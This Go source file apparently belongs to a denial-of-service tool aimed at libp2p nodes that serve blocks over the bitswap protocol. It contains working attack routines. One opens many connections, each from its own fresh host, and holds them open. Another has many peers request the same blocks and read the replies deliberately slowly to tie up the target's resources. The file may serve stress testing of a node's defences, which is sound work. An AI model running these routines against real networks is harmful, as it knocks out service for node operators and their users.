package main

import (
	"io"
	"strconv"
	"time"

	"github.com/libp2p/go-libp2p/core/host"
	"github.com/libp2p/go-libp2p/core/network"
)

// Connections that mean no harm (a word: how many), each of a host of its own.
func manyConnections(a *attack) {
	count, _ := strconv.Atoi(a.words[0])
	slots := make(chan struct{}, 16)
	a.many(count, func(int) error {
		slots <- struct{}{}
		host, err := newHost()
		if err == nil {
			defer host.Close()
			_, err = connect(host, a.address)
		}
		<-slots
		if err != nil {
			return err
		}
		a.count("connections", 1)
		a.stay(host)
		return nil
	})
}

// Peers that want the same blocks (words: how many peers, bytes a second, then the CIDs) and read
// them slowly.
func slowReaders(a *attack) {
	count, _ := strconv.Atoi(a.words[0])
	rate, _ := strconv.Atoi(a.words[1])
	a.readers(count, wantsOf(a.words[2:]), func(stream network.Stream) { a.readSlowly(stream, rate) })
}

// `count` peers at a time that want the same blocks, and deal with what comes by `read`.
func (a *attack) readers(count int, wants []want, read network.StreamHandler) {
	a.fromPeers(count, func(_ int, host host.Host) error {
		host.SetStreamHandler(bitswapProtocol, read)
		stream, err := a.openFrom(host, bitswapProtocol)
		if err != nil {
			return err
		}
		if _, err := stream.Write(framed(bitswapWants(wants))); err != nil {
			return err
		}
		a.count("readers", 1)
		a.stay(host)
		return nil
	})
}

func (a *attack) readSlowly(stream network.Stream, rate int) {
	const turn = 50 * time.Millisecond
	piece := make([]byte, rate/20)
	for a.ctx.Err() == nil {
		began := time.Now()
		read, err := io.ReadFull(stream, piece)
		a.count("bytes read", uint64(read))
		if err != nil {
			return
		}
		a.pause(turn - time.Since(began))
	}
}
